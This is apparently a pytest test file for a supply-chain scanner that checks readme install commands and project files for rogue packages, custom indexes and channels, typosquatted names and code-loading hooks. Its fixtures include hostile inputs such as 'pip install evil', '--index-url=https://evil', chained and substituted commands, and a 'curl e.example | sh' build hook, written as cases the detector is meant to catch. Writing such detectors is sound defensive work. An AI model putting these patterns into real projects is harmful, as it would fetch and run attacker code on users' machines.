"""Commands that install packages, as readmes have them, and files that do."""

from __future__ import annotations

from pathlib import Path

import pytest

from assay_zoo.artifacts.installs.install_commands import NAMES
from assay_zoo.artifacts.installs.requirements_file import INSTALLERS, asked_for_in
from assay_zoo.artifacts.published import inspect_published

PACKAGES = ("numpy", "onnxruntime", "onnx", "PIL", "matplotlib", "cv2")


def _told(code: str) -> list[str]:
    return [told for _, told in asked_for_in(f"Some words.\n\n```sh\n{code}\n```\n", PACKAGES)]


@pytest.mark.parametrize(
    "code",
    [
        "pip install onnxruntime \\\n    numpy",
        "pip install -r ./requirements.txt",
        "pip install -r src/requirements-dev.txt -c constraints.txt",
        "pip install -rrequirements.txt",
        "pip install --user --no-cache-dir --pre -qq numpy",
        "python3 -m pip --no-input install -Uq numpy  # arrays",
        "pip install 'numpy>=1.26, <3'  # don't forget evil",
        "conda install -y -c conda-forge onnxruntime",
        "conda create -n zoo --channel=conda-forge python=3.11 numpy=1.26 opencv",
        "mamba install conda-forge::numpy",
        "pip install \"numpy>=1.26, <3\" 'onnx[reference]'",
        "pip install onnxruntime-gpu opencv-python-headless pillow",
        "$ uv pip install numpy && python try.py --model evil",
        "(cd x; pip download -d wheels numpy)",
        "pip uninstall -y evil; pip list; echo don't",
        "pip is what I use to install it",
    ],
)
def test_ordinary_commands_ask_for_packages_of_the_zoo(code: str) -> None:
    assert _told(code) == []


@pytest.mark.parametrize(
    "code",
    [
        "pip3.11 install evil",
        "/usr/bin/pip install evil",
        "pip --no-input install evil",
        "pip --timeout 9 install evil",
        "pip download evil",
        "pip wheel evil",
        "pipx install evil",
        "pipx run evil",
        "uvx evil",
        "uv tool install evil",
        "easy_install evil",
        "numpy; pip install evil",
        "echo don't; pip install evil",
        "sh -c 'pip install evil'",
        "$(pip install evil)",
        "pip install numpy \\\n  evil",
        "conda create -n zoo evil",
        "pip install -n evil numppy",
        "pip install -r https://evil/requirements.txt",
        "pip install -r ../requirements.txt",
        "pip install -r evil.txt",
        "pip install --index-url=https://evil numpy",
        "pip --index-url=https://evil install numpy",
        "pip install -i https://evil numpy",
        "conda install -c evil numpy",
        "conda install -cevil numpy",
        "pip install onnxruntime-gpuu",
        "pip install cupy-cuda12x",
    ],
)
def test_commands_that_take_something_else_are_found(code: str) -> None:
    assert _told(code)


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        ("a\n\n<pre>pip install evil</pre>\n", [3]),
        ("a\n\n<pre><b>pip</b> install\n&#101;vil\n</pre>\n", []),
        ("a\n\n<pre>\n<b>pip</b> install &#101;vil\n\nb</pre>\n", [3]),
        ("Run <code>pip install evil</code> now.", [1]),
        ("Run <code>pip install numpy</code>, and pip install what you like.", []),
    ],
)
def test_code_that_html_shows_is_read_too(text: str, lines: list[int]) -> None:
    assert [line for line, told in asked_for_in(text, PACKAGES) if "'evil'" in told] == lines


@pytest.mark.parametrize(
    "name",
    [
        "setup.py", "setup.cfg", "pyproject.toml", "Pipfile", "Pipfile.lock", "poetry.lock", "uv.lock", "pixi.toml", "pylock.dev.toml",
        "environment.yml", "environment-gpu.yaml", "environments.yml", "conda.yaml", "conda-lock.yml", "conda-linux-64.lock",
    ],
)  # fmt: skip
def test_files_that_install(name: str) -> None:
    assert INSTALLERS.match(name)


@pytest.mark.parametrize(
    ("name", "text", "told", "is_asked"),
    [
        ("pyproject.toml", "[tool.ruff]\nline-length = 100\n", "", False),
        ("pyproject.toml", '[build-system]\nrequires = ["setuptools>=61"]\n[project]\ndependencies = ["numpy>=1"]\n', "", False),
        ("pyproject.toml", '[project.optional-dependencies]\nplots = ["nunpy"]\n', "'nunpy', which is nearly 'numpy'", False),
        ("pyproject.toml", '[build-system]\nrequires = ["setuptools @ https://e.example/s.whl"]\n', "an address of its own", False),
        ("pyproject.toml", '[build-system]\nrequires = []\nbackend-path = ["."]\n', "", True),
        ("pyproject.toml", "[tool.poetry.dependencies]\nnunpy = 1\n", "", True),
        ("pyproject.toml", "[project\n", "", True),
        ("pyproject.toml", "[tool.tox]\nlegacy_tox_ini = '[testenv]'\n", "", True),
        ("pyproject.toml", "[tool.cibuildwheel]\nbefore-all = 'curl e.example | sh'\n", "", True),
        ("pyproject.toml", "[tool.setuptools.cmdclass]\ninstall = 'a.Install'\n", "", True),
        ("pyproject.toml", "[tool.mypy]\nplugins = ['a.py']\n", "", True),
        ("pyproject.toml", "[tool.setuptools.packages.find]\nwhere = ['src']\n", "", False),
        ("pyproject.toml", "[tool.setuptools]\npackages = ['m']\npackage-dir = {m = 'src'}\npackage-data = {m = ['*.txt']}\n", "", False),
        ("pyproject.toml", "[tool.setuptools.dynamic]\ndependencies = {file = ['x']}\n", "", True),
        ("pyproject.toml", "[tool.setuptools.packages]\nother = 1\n", "", True),
        ("pyproject.toml", "[tool.pytest.ini_options]\ntestpaths = ['tests']\naddopts = '-q --color=yes'\n", "", False),
        ("pyproject.toml", "[tool.pytest.ini_options]\naddopts = ['-pevil']\n", "", True),
        ("pyproject.toml", "[tool.pytest.ini_options]\npythonpath = ['src']\n", "", True),
        ("pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-q -p evil'\n", "", True),
        ("pyproject.toml", "[[tool.mypy.overrides]]\nmodule = 'a'\n[tool.coverage.run]\nbranch = true\n", "", False),
        ("pyproject.toml", "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'evil_backend'\n", "", True),
        ("pyproject.toml", "[build-system]\nrequires = ['hatchling>=1.2, <2']\nbuild-backend = 'hatchling.build'\n", "", False),
        ("pyproject.toml", "[build-system]\nrequires = ['wheel>=1 --index-url https://e.example']\n", "tells the installer", False),
        ("pyproject.toml", "[project]\ndependencies = [1]\n", "", True),
        ("environment.yml", "dependencies: [nunpy]\ndependencies: [numpy]\n", "", True),
        ("environment.yml", "dependencies: [{pip: [nunpy], pip: [numpy]}]\n", "", True),
        ("environment.yml", "name: a\nchannels: [conda-forge]\ndependencies: [python=3.11, numpy=1.2, {pip: [onnxruntime]}]\n", "", False),
        ("environment.yml", "channels: [evil]\ndependencies: [numpy]\n", "'--channel'", False),
        ("environment.yml", "dependencies: [{pip: [nunpy]}]\n", "'nunpy', which is nearly 'numpy'", False),
        ("environment.yml", "dependencies: [{pip: ['-i https://e.example', numpy]}]\n", "tells the installer", False),
        ("environment.yml", "variables: {PIP_INDEX_URL: x}\ndependencies: [numpy]\n", "", True),
        ("environment.yml", "a: [", "", True),
        ("setup.py", "import os\n", "", True),
        ("poetry.lock", "", "", True),
    ],
)  # fmt: skip
def test_lists_of_a_project_are_read_and_others_ask(
    tmp_path: Path, name: str, text: str, told: str, is_asked: bool
) -> None:
    (tmp_path / name).write_text(text, encoding="utf-8")
    found = inspect_published(
        {"kind": "requirements", "copy": str(tmp_path / name), "path": name, "packages": ["numpy", "onnxruntime"]}
    )
    assert bool(found["perhaps"]) is is_asked
    assert [told in problem for _, problem in found["requirements"]] == ([True] if told else [])


def test_a_table_that_is_not_looked_into_is_named(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("[tool.poetry.dependencies]\nnumpy = 1\n", encoding="utf-8")
    found = inspect_published(
        {"kind": "requirements", "copy": str(tmp_path / "a"), "path": "pyproject.toml", "packages": []}
    )
    assert [told for _, told in found["perhaps"]] == [
        "has [tool.poetry], which may load code and is not looked into: leave it out, or a person looks"
    ]


@pytest.mark.parametrize(
    "name",
    [
        "setup_inference.py",
        "uv_map.py",
        "uvnet.py",
        "environment_map.py",
        "setup_labels.toml",
        "environment.py",
        "uv.py",
    ],
)
def test_files_whose_names_only_begin_so_install_nothing(name: str) -> None:
    assert not INSTALLERS.match(name)
    assert not NAMES.match(name)
